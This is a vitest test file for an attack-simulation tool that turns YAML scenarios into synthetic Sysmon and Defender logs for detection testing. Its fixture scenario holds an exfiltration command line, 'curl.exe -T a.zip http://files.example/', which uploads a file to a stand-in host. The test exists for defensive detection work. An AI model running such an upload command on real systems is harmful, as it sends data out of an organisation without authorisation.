import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { type SimulatedScenario, simulate } from '../../src/index.ts'

const root = mkdtempSync(path.join(tmpdir(), 'siemless-test-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

const scenario = (id: string): string => `id: ${id}
title: An upload
kind: attack
description: A file leaves.
techniques: [T1048]
start: 2026-03-02T09:14:00Z
hosts: [{ name: WS-1, domain: corp.example, os: windows, address: 10.0.0.1 }]
users: [{ name: ann, domain: CORP }]
processes:
  - image: C:\\Windows\\System32\\curl.exe
    command_line: curl.exe -T a.zip http://files.example/
    connections: [{ to: 203.0.113.1, port: 80 }]
`

/** A file below the folder of the tests. */
function put(name: string, text: string): string {
  const file = path.join(root, name)
  mkdirSync(path.dirname(file), { recursive: true })
  writeFileSync(file, text)
  return file
}

const texts = ({ files }: SimulatedScenario): readonly string[] =>
  [...files()].flatMap((file) => [file.path, ...file.lines])

describe('simulate', () => {
  test('tells a scenario as the sensors that are asked for do, a file for each stream', async () => {
    const file = put('plain/up.yaml', scenario('up'))
    const { scenarios, diagnostics } = await simulate({
      scenarios: [file],
      sensors: ['sysmon', 'sysmon:xml', 'defender'],
    })
    expect(diagnostics).toEqual([])
    expect(scenarios).toMatchObject([{ id: 'up', kind: 'attack', file, folder: 'up', activities: 2 }])
    const files = [...(scenarios[0]?.files() ?? [])]
    expect(files.map((each) => [each.path, each.records, [...each.lines].length])).toEqual([
      ['sysmon-jsonl/sysmon.jsonl', 2, 2],
      ['sysmon-xml/sysmon.xml', 2, 4],
      ['defender/DeviceProcessEvents.jsonl', 1, 1],
      ['defender/DeviceNetworkEvents.jsonl', 1, 1],
    ])
  })

  test('is the same for the same seed, and another for another', async () => {
    const file = put('plain/up.yaml', scenario('up'))
    const told = async (seed: number): Promise<readonly string[]> =>
      (await simulate({ scenarios: [file], seed })).scenarios.flatMap(texts)
    const first = await told(7)
    expect(await told(7)).toEqual(first)
    expect(await told(8)).not.toEqual(first)
    const later = await simulate({ scenarios: [file], sensors: ['sysmon'], start: '2027-01-01T00:00:00Z' })
    expect(later.scenarios.flatMap(texts)[1]).toContain('"UtcTime":"2027-01-01 00:00:00.000"')
  })

  test('finds the scenarios of packages below a directory; of the same id each has a folder of its own', async () => {
    put('packages/a/detection.yaml', '')
    put('packages/a/scenarios/two.yaml', scenario('two'))
    put('packages/a/scenarios/one.yaml', scenario('one'))
    put('packages/b/detection.yaml', '')
    const bad = put('packages/b/scenarios/bad.yaml', scenario('bad').replace('kind: attack', 'kind: atack'))
    put('packages/b/scenarios/one.yaml', scenario('one'))
    put('packages/b/scenarios/notes.txt', 'no scenario')
    const { scenarios, diagnostics } = await simulate({ scenarios: [path.join(root, 'packages')] })
    expect(scenarios.map(({ folder }) => folder)).toEqual(['one', 'two', 'b.one'])
    expect(diagnostics.map(({ file, code, message }) => [file, code, message])).toEqual([
      [bad, 'detection/invalid', expect.stringContaining('attack')],
    ])
  })

  test('tells what there is none of: scenarios, sensors, times', async () => {
    const empty = path.dirname(put('empty/readme.txt', ''))
    const codes = async (options: Parameters<typeof simulate>[0]) =>
      (await simulate(options)).diagnostics.map(({ code, message, hints }) => [code, message, hints])
    expect(await codes({ scenarios: [empty] })).toEqual([
      ['detection/invalid', `\`${empty}\`: there is no scenario (a YAML file of a folder \`scenarios\`) here`, []],
    ])
    expect(await codes({ scenarios: [path.join(root, 'absent.yaml')] })).toHaveLength(1)
    const [sensor] = await codes({ scenarios: [], sensors: ['sysmn'] })
    expect(sensor).toEqual(['simulation/no-sensor', expect.stringContaining('`sysmn`'), ['near: `sysmon`']])
    expect(await codes({ scenarios: [], sensors: ['sysmon:yml'] })).toEqual([
      ['simulation/no-sensor', '`sysmon:yml`: sysmon has jsonl, xml', ['near: `xml`']],
    ])
    expect(await codes({ scenarios: [], start: 'soon' })).toMatchObject([
      ['simulation/no-time', expect.stringContaining('`soon`'), []],
    ])
  })

  test('no id leads out of the folder, and no link out of the package', async () => {
    const climbing = put('plain/climb.yaml', scenario('../../up'))
    expect((await simulate({ scenarios: [climbing] })).diagnostics).toMatchObject([{ code: 'detection/invalid' }])
    const outside = put('outside.yaml', scenario('outside'))
    put('linked/detection.yaml', '')
    put('linked/scenarios/in.yaml', scenario('in'))
    symlinkSync(outside, path.join(root, 'linked/scenarios/out.yaml'))
    const { scenarios, diagnostics } = await simulate({ scenarios: [path.join(root, 'linked')] })
    expect(scenarios.map(({ id }) => id)).toEqual(['in'])
    expect(diagnostics).toMatchObject([{ message: expect.stringContaining('outside of its package') }])
  })
})
